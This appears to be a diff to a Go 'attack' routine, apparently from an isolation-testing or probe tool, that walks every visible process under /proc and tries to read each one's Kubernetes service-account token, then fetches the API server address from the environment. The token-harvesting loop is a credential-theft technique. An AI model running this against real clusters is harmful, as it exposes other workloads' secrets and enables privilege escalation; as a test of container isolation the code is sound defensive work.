@@ -31,10 +31,18 @@ func attack(argv []string, stdout io.Writer) int {
 	}
 	say := func(what, result string) { fmt.Fprintf(stdout, "attack: %s: %s\n", what, result) }
 
+	// Every visible process's root, one by one: a glob would skip the
+	// ones it may not enter, and those are the answer that matters.
+	const tokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+	pids, _ := filepath.Glob("/proc/[0-9]*")
+	say("processes visible", fmt.Sprint(len(pids)))
+	paths := []string{tokenPath}
+	for _, pid := range pids {
+		if filepath.Base(pid) != fmt.Sprint(os.Getpid()) {
+			paths = append(paths, pid+"/root"+tokenPath)
+		}
+	}
 	token := ""
-	paths := []string{"/var/run/secrets/kubernetes.io/serviceaccount/token"}
-	procs, _ := filepath.Glob("/proc/[0-9]*/root/var/run/secrets/kubernetes.io/serviceaccount/token")
-	paths = append(paths, procs...)
 	for _, p := range paths {
 		b, err := os.ReadFile(p)
 		if err != nil {
@@ -44,9 +52,6 @@ func attack(argv []string, stdout io.Writer) int {
 		say("read "+p, "READ")
 		token = strings.TrimSpace(string(b))
 	}
-	pids, _ := filepath.Glob("/proc/[0-9]*")
-	say("processes visible", fmt.Sprint(len(pids)))
-	say("tokens visible through /proc", fmt.Sprint(len(procs)))
 
 	host, port := os.Getenv("KUBERNETES_SERVICE_HOST"), os.Getenv("KUBERNETES_SERVICE_PORT")
 	if host == "" {
